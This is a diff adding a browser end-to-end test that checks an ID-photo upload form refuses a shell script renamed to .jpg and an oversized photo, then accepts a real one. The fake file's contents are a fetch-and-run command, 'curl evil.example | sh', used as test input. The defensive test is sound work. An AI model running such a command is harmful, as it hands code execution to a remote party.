@@ -192,6 +192,27 @@ describe('verification, review and payout accounts in Chromium', () => {
     await page.context().close();
   });
 
+  it('refuses a script renamed to .jpg and a photo over 5 MB, saying why, and keeps the form usable', async () => {
+    const { page, errors } = await phonePage(browser, server.url);
+    await useEnglish(page);
+    await register(page);
+    await page.goto('/pages/realname/realname');
+    const form = formWith(page, 'As written on your ID');
+    const front = form.locator('input[type="file"]').nth(0);
+    // The browser calls it a JPEG by its name; the server reads the bytes and refuses it.
+    await front.setInputFiles({ name: 'passport.jpg', mimeType: 'image/jpeg', buffer: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') });
+    await form.getByText('Only JPEG, PNG or WebP photos can be uploaded').waitFor();
+    // Too large is answered at once, before anything is sent.
+    await front.setInputFiles({ name: 'huge.jpg', mimeType: 'image/jpeg', buffer: Buffer.alloc(6 * 1024 * 1024, 0xff) });
+    await form.getByText('The photo is larger than 5 MB').waitFor();
+    // A real photo then goes through.
+    await front.setInputFiles({ name: 'front.jpg', mimeType: 'image/jpeg', buffer: await cameraJpeg(page) });
+    await form.getByText('Uploaded', { exact: true }).waitFor();
+    // The one refused upload, and nothing else.
+    expect(errors).toEqual(['Failed to load resource: the server responded with a status of 422 (Unprocessable Entity)']);
+    await page.context().close();
+  });
+
   it('goes from registration to a verified member with a bank card and a wallet unbound again', async () => {
     await memberHoldingTakenAddress();
     const { page, errors } = await phonePage(browser, server.url);
